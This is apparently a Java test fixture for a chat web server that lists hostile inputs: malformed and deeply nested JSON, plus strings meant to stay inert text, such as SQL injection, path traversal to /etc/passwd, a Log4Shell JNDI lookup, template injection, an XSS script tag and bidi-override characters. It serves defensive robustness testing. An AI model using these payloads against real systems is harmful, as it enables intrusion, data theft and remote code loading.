package tablechat.web;

import java.util.List;

/// What nobody means to send, but somebody sends.
final class Hostile {
    private static final int DEEP = 100_000;

    /// What is no JSON, or none that is taken.
    static final List<String> TEXTS = List.of(
            "[".repeat(DEEP), "{\"a\":".repeat(DEEP), "[".repeat(DEEP) + "]".repeat(DEEP), "{\"a\":[".repeat(33) + "]}".repeat(33),
            "", " ", "\0", "{", "}", "{\"", "{\"type\"", "{\"type\":", "{\"type\":\"ping\"", "{\"type\":\"ping\",}",
            "{'type':'ping'}",
            "{type:\"ping\"}", "{\"type\":\"ping\"}\0", "{\"type\":\"ping\"} x", "{\"type\":\"ping\"}{\"type\":\"ping\"}",
            "[{\"type\":\"ping\"}]", "\"ping\"", "1", "null", "NaN", "// \n{\"type\":\"ping\"}", "\uFEFF{\"type\":\"ping\"}",
            "{\"type\":\"ping\",\"type\":\"help\"}", "{\"type\":\"ping\",\"a\":{\"b\":1,\"b\":1}}",
            "{\"type\":\"ping\",\"\\u0074ype\":\"ping\"}",
            "{\"type\":\"ping\",\"a\":\"\\ud800\"}", "{\"type\":\"ping\",\"a\":\"\\udc00\\ud800\"}",
            "{\"type\":\"ping\",\"\\ud800\":1}",
            "{\"type\":\"ping\",\"a\":1e1000000000000}", "{\"type\":\"ping\",\"a\":" + "9".repeat(DEEP) + "}",
            "{\"type\":\"ping\",\"a\":+1}",
            "{\"type\":\"ping\",\"a\":01}", "{\"type\":\"ping\",\"a\":.5}", "{\"type\":\"ping\",\"a\":0x10}",
            "{\"type\":\"ping\",\"a\":-}",
            "{\"type\":\"ping\",\"a\":NaN}", "{\"type\":\"ping\",\"a\":Infinity}", "{\"type\":\"ping\",\"a\":tru}",
            "{\"type\":\"ping\",\"a\":\"\\x\"}",
            "{\"type\":\"ping\",\"a\":\"\\u12\"}", "{\"type\":\"ping\",\"a\":\"\n\"}", "{\"type\":\"ping\",\"a\":\"\0\"}");

    /// What is a text like any other.
    static final List<String> LITERALS = List.of(
            "'; drop table session; --", "\" or \"\"=\"", "%", "_", "\\", "%%_\\%", "' union select secret from connection --",
            "../../etc/passwd",
            "..\\..\\windows\\win.ini", "file:///etc/passwd", "con", "a\u0000b", "\u202Eevil\u202C", "a\u200Bb\u200Cc\u200Dd",
            "\uFEFFmark", "שלום עולם", "مرحبا", "e\u0301\u0327\u0323", "👩‍👩‍👧‍👦", "𝕏\uDBFF\uDFFF", "\u0085\u2028\u2029",
            "${jndi:ldap://x/a}", "{{7*7}}", "%s%n%d",
            "<script>alert(1)</script>", "\u001B[31mred", "null", "true", "NaN", "{\"type\":\"session.delete\"}");

    private Hostile() {}
}
